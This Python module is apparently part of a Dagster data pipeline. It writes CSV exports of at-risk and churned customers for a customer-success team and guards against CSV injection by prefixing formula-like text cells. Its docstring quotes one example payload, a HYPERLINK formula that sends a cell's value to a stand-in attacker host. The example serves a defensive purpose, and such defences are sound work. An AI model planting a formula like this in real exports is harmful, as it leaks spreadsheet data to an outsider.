"""Outreach exports: CSV files for the team that calls at-risk customers and asks churned ones for feedback.

Files are named by their as-of day / month, so a re-run replaces them and earlier runs' files stay. A serving file
without data (no as-of day, no complete month) writes no file.

The files are opened in spreadsheets, and names, emails, segments and ids come from landing files: a cell
such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would run as a formula there (CSV injection). As
OWASP advises, every text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single
quote in front, which spreadsheets read as "this is text". Numbers are left as they are: a negative amount
is a number, not a formula. The target path reaches DuckDB as a parameter, never pasted into the SQL.
"""

from pathlib import Path

import dagster as dg

from pipeline.ingest.validation import quote_ident, quote_literal
from pipeline.serving.assets import SERVING_KEY, Serving

AT_RISK_SQL = """
SELECT priority_rank, customer_id, name, email, segment, array_to_string(reasons, ';') AS reasons,
       value_at_risk, p_alive, days_since_last_activity, expected_next_order_date, as_of, value_at_stake
FROM marts.at_risk_customers ORDER BY priority_rank
"""

CHURNED_SQL = """
WITH latest AS (
    SELECT max(period_start) AS period_start FROM marts.customer_periods cp
    JOIN marts.retention r USING (grain, period_start)
    WHERE cp.grain = 'month' AND r.is_complete
)
SELECT cp.customer_id, c.name, c.email, cv.segment, cp.period_start AS churned_in_month,
       cp.mrr_start AS lost_mrr, cv.lifetime_revenue, cv.trailing_12m_revenue, cv.last_active_day
FROM marts.customer_periods cp
JOIN latest USING (period_start)
LEFT JOIN marts.customer_value cv USING (customer_id)
LEFT JOIN marts.customer_contacts c USING (customer_id)
WHERE cp.grain = 'month' AND cp.is_churned
ORDER BY lost_mrr DESC, cv.lifetime_revenue DESC NULLS LAST, cp.customer_id
"""


class Exports(dg.ConfigurableResource):
    """Where outreach CSV files are written (RETENTION_EXPORT_DIR)."""

    path: str


FORMULA_START = r"^[=+\-@\t\r]"  # a regular expression: the first characters that make a cell a formula


def neutralised(con, sql: str) -> str:
    """`sql` with every text column that begins like a formula prefixed with a single quote (see above)."""
    columns = []
    for name, sql_type, *_ in con.execute(f"DESCRIBE ({sql})").fetchall():
        column = quote_ident(name)
        if sql_type == "VARCHAR":
            column = (f"CASE WHEN regexp_matches({column}, {quote_literal(FORMULA_START)}) "
                      f"THEN chr(39) || {column} ELSE {column} END AS {column}")
        columns.append(column)
    return f"SELECT {', '.join(columns)} FROM ({sql})"


def _copy(con, sql: str, target: Path) -> int:
    tmp = target.with_name(target.name + ".tmp")
    con.execute(f"COPY ({neutralised(con, sql)}) TO ? (HEADER, DELIMITER ',')", [str(tmp)])
    tmp.replace(target)  # readers never see a half-written file
    return con.execute(f"SELECT count(*) FROM ({sql})").fetchone()[0]


@dg.asset(
    key=["exports", "outreach"],
    deps=[SERVING_KEY],
    group_name="value",
    owners=["team:customer-success"],
    kinds={"csv"},
)
def outreach_exports(context: dg.AssetExecutionContext, serving: Serving, exports: Exports):
    """The at-risk list and last complete month's churned customers, with lost MRR and value, as CSV."""
    folder = Path(exports.path)
    folder.mkdir(parents=True, exist_ok=True)
    with serving.connect() as con:
        as_of = con.execute("SELECT max(as_of) FROM marts.customer_value").fetchone()[0]
        month = con.execute(f"SELECT max(churned_in_month) FROM ({CHURNED_SQL})").fetchone()[0]
        at_risk_file = folder / f"at_risk_customers_{as_of}.csv" if as_of else None
        churned_file = folder / f"churned_customers_{month:%Y-%m}.csv" if month else None
        at_risk_rows = _copy(con, AT_RISK_SQL, at_risk_file) if at_risk_file else 0
        churned_rows = _copy(con, CHURNED_SQL, churned_file) if churned_file else 0
    if at_risk_file is None:
        context.log.warning("the serving file holds no customer data (no as-of day): no outreach file written")
    context.log.info(f"wrote {at_risk_rows} at-risk and {churned_rows} churned customers to {folder}")
    return dg.MaterializeResult(
        metadata={
            "at_risk_file": str(at_risk_file) if at_risk_file else "none (no data)",
            "at_risk_rows": at_risk_rows,
            "churned_file": str(churned_file) if churned_file else "none (no complete month)",
            "churned_rows": churned_rows,
        }
    )
